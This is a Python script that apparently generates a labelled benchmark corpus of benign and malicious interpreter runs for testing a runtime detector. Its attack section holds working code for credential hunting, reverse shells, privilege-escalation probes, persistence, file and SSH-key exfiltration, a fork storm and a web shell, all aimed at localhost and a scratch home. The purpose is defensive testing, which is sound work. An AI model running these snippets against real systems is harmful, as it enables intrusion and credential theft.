"""Corpus `interp`: interpreters. Benign: python3 scripts (data processing, json, csv, sqlite,
regular expressions, unittest, threads, subprocesses, a local HTTP round trip), perl and awk
text processing. Attacks are written in Python: see common.py for how they are kept harmless.

    python3 benches/corpora/interp.py OUT [BENIGN_RUNS]
"""

import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import (main, listener, shell_driver, shell_commands, sink, free_port,  # noqa: E402
                    web_client, write, WEB_PATHS)

PY_BENIGN = {
    "py_json": "import json, sys\nd = {{'k%d' % i: list(range(i % 7)) for i in range({n})}}\n"
               "open('d.json', 'w').write(json.dumps(d))\nprint(len(json.load(open('d.json'))))\n",
    "py_csv": "import csv\nw = csv.writer(open('t.csv', 'w'))\nfor i in range({n}): w.writerow([i, i * i, str(i)[::-1]])\n"
              "print(sum(int(r[1]) for r in csv.reader(open('t.csv'))))\n",
    "py_sqlite": "import sqlite3\nc = sqlite3.connect('db.sqlite')\nc.execute('create table t (a, b)')\n"
                 "c.executemany('insert into t values (?, ?)', [(i, str(i)) for i in range({n})])\nc.commit()\n"
                 "print(c.execute('select count(*), sum(a) from t').fetchone())\n",
    "py_regex": "import re, glob\ntext = open('/usr/share/common-licenses/GPL-3').read() * ({n} // 500 + 1)\n"
                "print(len(re.findall(r'\\b[a-z]{{5,}}\\b', text)))\nprint(len(glob.glob('/usr/share/doc/*')))\n",
    "py_unittest": "import unittest\nclass T(unittest.TestCase):\n"
                   "    def test_a(self): self.assertEqual(sum(range({n})), {n} * ({n} - 1) // 2)\n"
                   "    def test_b(self): self.assertTrue(sorted([3, 1, 2]) == [1, 2, 3])\n"
                   "unittest.main(argv=['t'], exit=False)\n",
    "py_threads": "import threading, queue\nq = queue.Queue()\n"
                  "def work(k):\n    q.put(sum(i * k for i in range({n})))\n"
                  "ts = [threading.Thread(target=work, args=(k,)) for k in range(3)]\n"
                  "[t.start() for t in ts]; [t.join() for t in ts]\nprint(q.qsize())\n",
    "py_subprocess": "import subprocess\nprint(subprocess.run(['ls', '-l', '.'], capture_output=True).stdout[:50])\n"
                     "print(subprocess.run(['uname', '-r'], capture_output=True, text=True).stdout)\n",
    "py_files": "import os, shutil, hashlib\nos.makedirs('a/b', exist_ok=True)\n"
                "for i in range({n} // 50 + 1): open('a/b/f%d' % i, 'w').write('x' * i)\n"
                "print(sum(hashlib.md5(open(os.path.join(r, f), 'rb').read()).digest()[0] for r, _, fs in os.walk('a') for f in fs))\n"
                "shutil.rmtree('a')\n",
    "py_http": "import http.server, threading, urllib.request\n"
               "s = http.server.HTTPServer(('127.0.0.1', 0), http.server.SimpleHTTPRequestHandler)\n"
               "threading.Thread(target=s.serve_forever, daemon=True).start()\n"
               "for i in range({n} // 400 + 1): urllib.request.urlopen('http://127.0.0.1:%d/' % s.server_port).read()\n"
               "s.shutdown()\n",
    "py_compile": "import py_compile, compileall\nopen('m.py', 'w').write('x = 1\\n' * {n})\n"
                  "py_compile.compile('m.py', cfile='m.pyc')\nprint('ok')\n",
}

PERL_BENIGN = [
    "my %c; for my $i (1..{n}) {{ $c{{$i % 13}}++ }} print join(',', map {{ \"$_=$c{{$_}}\" }} sort keys %c), \"\\n\";",
    "open(my $f, '<', '/usr/share/common-licenses/GPL-3') or die; my $n = 0; while (<$f>) {{ $n++ if /free/i }} print \"$n\\n\";",
    "opendir(my $d, '/usr/share/doc') or die; my @e = grep {{ !/^\\./ }} readdir $d; print scalar(@e), \"\\n\";",
    "open(my $o, '>', 'out.txt') or die; print $o \"line $_\\n\" for 1..{n}; close $o; print -s 'out.txt', \"\\n\";",
]

AWK_BENIGN = [
    "awk '{{ n += NF }} END {{ print n }}' /usr/share/common-licenses/GPL-3",
    "seq {n} | awk '{{ s += $1 }} END {{ print s }}'",
    "awk -F: '{{ print $1 }}' /etc/passwd | sort | head -5",
    "sed -n 's/License/LICENSE/p' /usr/share/common-licenses/GPL-3 | wc -l",
]


def benign(c, n):
    rng = c.rng
    kinds = list(PY_BENIGN) + ["perl", "awk", "py_multi"]
    for i in range(n):
        kind = rng.choice(kinds)
        size = rng.randrange(20, 3000)
        if kind == "perl":
            c.record("benign", kind, ["perl", "-e", rng.choice(PERL_BENIGN).format(n=size)])
        elif kind == "awk":
            c.record("benign", kind, ["sh", "-c", rng.choice(AWK_BENIGN).format(n=size)])
        elif kind == "py_multi":
            a, b = rng.sample(list(PY_BENIGN), 2)
            c.record("benign", kind, ["python3", "-c", PY_BENIGN[a].format(n=size) + PY_BENIGN[b].format(n=size)])
        else:
            c.record("benign", kind, ["python3", "-c", PY_BENIGN[kind].format(n=size)])


def attacks(c):
    rng = c.rng
    h = c.home
    for v in range(3):
        py = lambda name, code, **kw: c.record("attack", name, ["python3", "-c", code], **kw)
        # Credential hunting.
        py("cred_hunt", [
            f"import os\nfor r, ds, fs in os.walk({h!r}):\n    for f in fs:\n"
            "        if f.startswith('id_') or f in ('credentials', 'hosts.yml', 'config.json', '.env', '.netrc'):\n"
            "            print(open(os.path.join(r, f)).read())\n",
            f"import glob, os\nfor p in glob.glob({h!r} + '/**/*', recursive=True):\n"
            "    try:\n        t = open(p, errors='ignore').read()\n    except OSError: continue\n"
            "    if 'PRIVATE KEY' in t or 'AKIA' in t or 'token' in t: print(p)\n"
            "print({k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k})\n",
            f"import os\nfor p in ['.ssh/id_rsa', '.ssh/id_ed25519', '.aws/credentials', '.docker/config.json', '.git-credentials', '.netrc']:\n"
            f"    try: print(open(os.path.join({h!r}, p)).read())\n    except OSError: pass\n",
        ][v])
        # Reverse shell: a socket as the shell's stdin and stdout.
        port, t = listener(shell_driver(shell_commands(h, v)))
        py("reverse_shell", "import socket, subprocess, os\n"
           f"s = socket.create_connection(('127.0.0.1', {port}))\n"
           + ["os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)\nos.execv('/bin/sh', ['sh', '-i'])\n",
              "subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n",
              "f = s.makefile('rw')\nfor line in f:\n    if line.strip() == 'exit': break\n"
              "    f.write(subprocess.run(line, shell=True, capture_output=True, text=True).stdout); f.flush()\n"][v])
        t.join(5)
        # Privilege escalation attempts.
        py("privesc", [
            "import os\nfor f in ('/etc/shadow', '/etc/sudoers', '/root/.ssh/authorized_keys'):\n"
            "    try: open(f).read()\n    except OSError as e: print(f, e)\n"
            "for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setresuid(0, 0, 0)):\n"
            "    try: call()\n    except OSError as e: print(e)\n",
            "import os, stat\nfor d in ('/usr/bin', '/usr/sbin', '/usr/lib'):\n"
            "    for f in os.listdir(d):\n        p = os.path.join(d, f)\n"
            "        try:\n            if os.stat(p).st_mode & stat.S_ISUID: print(p)\n        except OSError: pass\n",
            "import os\nfor p in ('/etc/passwd', '/etc/cron.d/x', '/etc/ld.so.preload'):\n"
            "    try: open(p, 'a').write('x')\n    except OSError as e: print(e)\n"
            "try: print(open('/proc/1/environ').read())\nexcept OSError as e: print(e)\n"
            "import subprocess; subprocess.run(['su', '-c', 'id'], stdin=subprocess.DEVNULL)\n",
        ][v])
        # Persistence in rc files, cron and autostart (all in the scratch home).
        py("persistence", [
            f"open({h!r} + '/.bashrc', 'a').write('python3 -c \"import os\" &\\n')\nopen({h!r} + '/.crontab', 'w').write('* * * * * python3 /tmp/x\\n')\n",
            f"import os\nos.makedirs({h!r} + '/.config/autostart', exist_ok=True)\n"
            f"open({h!r} + '/.config/autostart/u.desktop', 'w').write('[Desktop Entry]\\nExec=/tmp/x\\n')\n"
            f"os.chmod({h!r} + '/.config/autostart/u.desktop', 0o755)\n",
            f"import os, shutil\nshutil.copy('/bin/true', {h!r} + '/.cache-helper')\nos.chmod({h!r} + '/.cache-helper', 0o755)\n"
            f"open({h!r} + '/.profile', 'a').write('~/.cache-helper &\\n')\n",
        ][v])
        # Miner-like: hashing loops on several threads (or processes).
        py("miner", [
            "import hashlib, threading\ndef w(k):\n    h = b'x'\n    for i in range(60000): h = hashlib.sha256(h).digest()\n"
            "ts = [threading.Thread(target=w, args=(k,)) for k in range(4)]\n[t.start() for t in ts]; [t.join() for t in ts]\n",
            "import hashlib, multiprocessing\ndef w(k):\n    h = b'y'\n    for i in range(60000): h = hashlib.sha256(h).digest()\n    return h\n"
            "if __name__ == '__main__':\n    with multiprocessing.Pool(3) as p: print(p.map(w, range(3)))\n",
            "import hashlib, os\nfor k in range(3):\n    if os.fork() == 0:\n        h = b'z'\n"
            "        for i in range(80000): h = hashlib.sha1(h).digest()\n        os._exit(0)\nfor k in range(3): os.wait()\n",
        ][v])
        # Exfiltration to a local listener.
        port, t = listener(sink)
        py("exfiltration", [
            f"import tarfile, socket, io\nb = io.BytesIO()\nwith tarfile.open(fileobj=b, mode='w:gz') as t: t.add({h!r})\n"
            f"socket.create_connection(('127.0.0.1', {port})).sendall(b.getvalue())\n",
            f"import socket, os\ns = socket.create_connection(('127.0.0.1', {port}))\n"
            f"for r, _, fs in os.walk({h!r}):\n    for f in fs: s.sendall(open(os.path.join(r, f), 'rb').read())\n",
            f"import urllib.request, base64\nd = base64.b64encode(open({h!r} + '/.ssh/id_rsa', 'rb').read())\n"
            f"try: urllib.request.urlopen('http://127.0.0.1:{port}/u', data=d, timeout=3)\nexcept Exception: pass\n",
        ][v])
        t.join(5)
        # Fork storm, bounded by depth.
        py("fork_bomb", "import os\ndef b(d):\n    if d == 0: return\n    for _ in range(2):\n"
           "        if os.fork() == 0:\n            b(d - 1); os._exit(0)\n    while True:\n"
           "        try: os.wait()\n        except ChildProcessError: break\n" + f"b({4 + v})\n")
        # Web shell: each request's path is run as a command.
        port = free_port()
        server = (
            "import socketserver, subprocess, urllib.parse, os\n"
            "class H(socketserver.StreamRequestHandler):\n"
            "    def handle(self):\n"
            "        path = self.rfile.readline().split()[1].decode()\n"
            "        if path == '/quit': os._exit(0)\n"
            "        out = subprocess.run(urllib.parse.unquote(path[1:]), shell=True, capture_output=True).stdout\n"
            "        self.wfile.write(b'HTTP/1.0 200 OK\\r\\n\\r\\n' + out)\n"
            f"socketserver.TCPServer(('127.0.0.1', {port}), H).serve_forever()\n")
        py("web_shell", server, during=web_client(port, rng.sample(WEB_PATHS, 2 + v)))


if __name__ == "__main__":
    main(benign, attacks, 150)
